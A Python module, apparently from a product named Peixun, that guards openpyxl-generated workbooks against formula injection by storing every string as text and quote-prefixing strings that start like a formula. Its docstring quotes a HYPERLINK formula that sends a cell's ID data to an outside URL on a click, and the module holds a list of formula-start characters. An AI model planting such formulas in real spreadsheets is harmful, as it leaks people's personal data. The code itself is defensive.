"""The cells of every workbook Peixun makes (issue 14): a value from text is written as text,
never as a formula. Certificate numbers, reasons, notes, names and whatever a course file
carried are typed by people; in a sheet a clerk opens next to full ID numbers and phones,
``=HYPERLINK("http://…"&E5,"核验")`` would send them away on a click.

openpyxl makes any string that starts with "=" a formula (and "#N/A" and its kind an error);
a spreadsheet app also reads "+", "-", "@", a tab or a line break at the start, and their
full-width forms, as the start of a formula once someone edits the cell. So every string is
stored as a string (``data_type = "s"``), kept exactly as it was typed, and one that a
spreadsheet might take for a formula is also marked "quote prefix", as Excel does when a
person types a leading apostrophe: it shows as typed and stays text when edited. Characters
an .xlsx file cannot hold (control characters) are shown as "\ufffd" rather than failing the
whole file. Numbers, dates and amounts are left as they are. The product writes no formulas
of its own (its totals are summed in Python), so an .xlsx it makes has no formula at all.

Every cell value goes through ``put`` (a cell of a normal sheet), ``write`` (the same, by
row and column) or ``streamed_cell``/``streamed_row`` (a write-only, streamed sheet)."""

from __future__ import annotations

import logging
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

logger = logging.getLogger(__name__)

# What a spreadsheet app may take for the start of a formula (OWASP's "CSV injection" list,
# with the full-width forms a Chinese input method types).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
REPLACEMENT = "\ufffd"


def may_read_as_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def put(cell: Cell, value: Any) -> Cell:
    """Write ``value`` in ``cell``: a string as text, exactly as typed (see the module)."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    text = ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT, value)
    cell.value = text
    cell.data_type = "s"  # whatever openpyxl inferred ("f" for "=…", "e" for "#N/A")
    if may_read_as_formula(text):
        cell.quotePrefix = True
    return cell


def write(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``sheet.cell(row, column, value)``, with the value written by ``put``."""
    return put(sheet.cell(row, column), value)


def streamed_cell(sheet, value: Any) -> WriteOnlyCell:
    """A cell for a write-only (streamed) sheet, its value written by ``put``."""
    return put(WriteOnlyCell(sheet), value)


def streamed_row(sheet, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append`` of a write-only sheet: each value in a ``put`` cell (cells
    made already, with their style, are kept as they are)."""
    return [value if isinstance(value, Cell) else streamed_cell(sheet, value)
            for value in values]
